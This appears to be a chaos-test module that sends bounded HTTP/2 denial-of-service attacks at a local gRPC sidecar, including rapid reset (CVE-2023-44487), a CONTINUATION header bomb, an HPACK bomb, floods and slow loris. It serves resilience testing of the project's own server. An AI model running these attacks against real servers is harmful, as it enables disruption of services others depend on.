"""HTTP/2 as no client speaks it: each attack is bounded in count and time, and aimed at 127.0.0.1."""

import asyncio
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from random import Random

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.chaos.hostile import mutated

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LISTEN_SECONDS = 1.0
PATH = "/stigg.sidecar.v1.SidecarService/GetBooleanEntitlement"
SERVED = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PATH),
    (":authority", "x"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]

Attack = Callable[[int, Random, int], Awaitable[None]]


async def sent(port: int, data: bytes, *, preface: bytes = PREFACE, listens: bool = True) -> None:
    """Write all of it on a connection of its own, read for a moment what comes back, and leave."""
    with suppress(OSError, TimeoutError):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            async with asyncio.timeout(5):
                writer.write(preface + data)
                await writer.drain()
                while listens:
                    read = await asyncio.wait_for(reader.read(65536), LISTEN_SECONDS)
                    listens = bool(read)
        finally:
            writer.transport.abort()


def _headers(stream: int, *, ends: bool = True, fields: list[tuple[str, str]] | None = None) -> bytes:
    block = Encoder().encode(SERVED if fields is None else fields)
    flags = ["END_HEADERS", "END_STREAM"] if ends else ["END_HEADERS"]
    return bytes(HeadersFrame(stream, block, flags=flags).serialize())


def _settings(**values: int) -> bytes:
    return bytes(SettingsFrame(0, {int(name[1:]): value for name, value in values.items()}).serialize())


async def noise(port: int, random: Random, count: int) -> None:
    """Bytes of no protocol at all, or of another one."""
    for _ in range(count):
        preface = random.choice(
            [b"", PREFACE[:-5], b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\x00", PREFACE]
        )
        await sent(port, random.randbytes(random.randint(0, 2000)), preface=preface, listens=False)


async def broken_frames(port: int, random: Random, count: int) -> None:
    """Good frames in a bad order, with mistakes in their bytes."""
    for _ in range(count):
        frames = [
            _settings(),
            _headers(random.choice([1, 2, 3, 2**31 - 1]), ends=random.random() < 0.5),
            *(frame.serialize() for frame in _some_frames(random)),
        ]
        random.shuffle(frames)
        await sent(port, mutated(random, b"".join(frames)), listens=False)


def _some_frames(random: Random) -> list[Frame]:
    stream = random.choice([1, 3, 5])
    return [
        DataFrame(stream, random.randbytes(random.randint(0, 50)), flags=["END_STREAM"]),
        PriorityFrame(stream, depends_on=stream, stream_weight=255, exclusive=True),
        RstStreamFrame(stream, random.randrange(2**32)),
        WindowUpdateFrame(random.choice([0, stream]), 2**31 - 1),
        PingFrame(0, random.randbytes(8)),
        ContinuationFrame(stream, random.randbytes(20)),
    ]


async def settings_flood(port: int, _: Random, count: int) -> None:
    """Each has to be acknowledged."""
    await sent(port, (_settings(_4=65_535) + _settings(_1=0)) * (count * 100))


async def ping_flood(port: int, _: Random, count: int) -> None:
    """Each has to be answered."""
    await sent(port, _settings() + bytes(PingFrame(0, b"12345678").serialize()) * (count * 200))


async def rapid_reset(port: int, _: Random, count: int) -> None:
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    frames = [_settings()]
    for stream in range(1, count * 200, 2):
        frames += [_headers(stream, ends=False), bytes(RstStreamFrame(stream, 8).serialize())]
    await sent(port, b"".join(frames))


async def many_streams(port: int, _: Random, count: int) -> None:
    """More streams than are allowed, none of which ends."""
    await sent(port, _settings() + b"".join(_headers(2 * n + 1, ends=False) for n in range(count * 100)))


async def header_bomb(port: int, _: Random, count: int) -> None:
    """A header of megabytes, by CONTINUATION frames that never end (CVE-2024-27316)."""
    first = bytes(HeadersFrame(1, Encoder().encode(SERVED)).serialize())
    more = bytes(ContinuationFrame(1, b"\x00\x04name\x7f\x81\x7c" + b"x" * 16_000).serialize())
    await sent(port, _settings() + first + more * (count * 10))


async def table_bomb(port: int, _: Random, count: int) -> None:
    """One large header in the table of the connection, named thousands of times (HPACK bomb)."""
    encoder = Encoder()
    entry = encoder.encode([("x", "y" * 4000)])
    block = Encoder().encode(SERVED) + entry + b"\xbe" * (count * 400)
    frames: list[HeadersFrame | ContinuationFrame] = [HeadersFrame(1, block[:16_000])]
    frames += [ContinuationFrame(1, block[at : at + 16_000]) for at in range(16_000, len(block), 16_000)]
    frames[-1].flags.add("END_HEADERS")
    await sent(port, _settings() + b"".join(bytes(frame.serialize()) for frame in frames))


async def unread_answers(port: int, _: Random, count: int) -> None:
    """Calls whose answers have no window to go through."""
    message = struct.pack(">BI", 0, 3) + b"\x0a\x01a"
    frames = [_settings(_4=0)]
    for stream in range(1, count * 20, 2):
        data = DataFrame(stream, message, flags=["END_STREAM"])
        frames += [_headers(stream, ends=False), bytes(data.serialize())]
    await sent(port, b"".join(frames))


async def huge_lengths(port: int, _: Random, count: int) -> None:
    """Messages that say they are four gigabytes long."""
    for _each in range(count):
        data = bytes(DataFrame(1, struct.pack(">BI", 0, 2**32 - 1) + b"x" * 1000).serialize())
        await sent(port, _settings() + _headers(1, ends=False) + data, listens=False)


async def path_of_no_text(port: int, _: Random, count: int) -> None:
    """A path with a byte in it that is no UTF-8."""
    rest = Encoder().encode([field for field in SERVED if field[0][0] != ":"])
    block = b"\x83\x86\x04\x03/\x81x" + rest
    call = bytes(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    for _each in range(count):
        await sent(port, _settings() + call)


async def slow_loris(port: int, _: Random, count: int) -> None:
    """Connections that say a part of the preface and then nothing."""
    writers = []
    for _each in range(count * 10):
        with suppress(OSError):
            _reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(PREFACE[:7])
            writers.append(writer)
    await asyncio.sleep(LISTEN_SECONDS)
    for writer in writers:
        writer.transport.abort()


ATTACKS: tuple[Attack, ...] = (
    noise,
    broken_frames,
    settings_flood,
    ping_flood,
    rapid_reset,
    many_streams,
    header_bomb,
    table_bomb,
    unread_answers,
    huge_lengths,
    slow_loris,
)
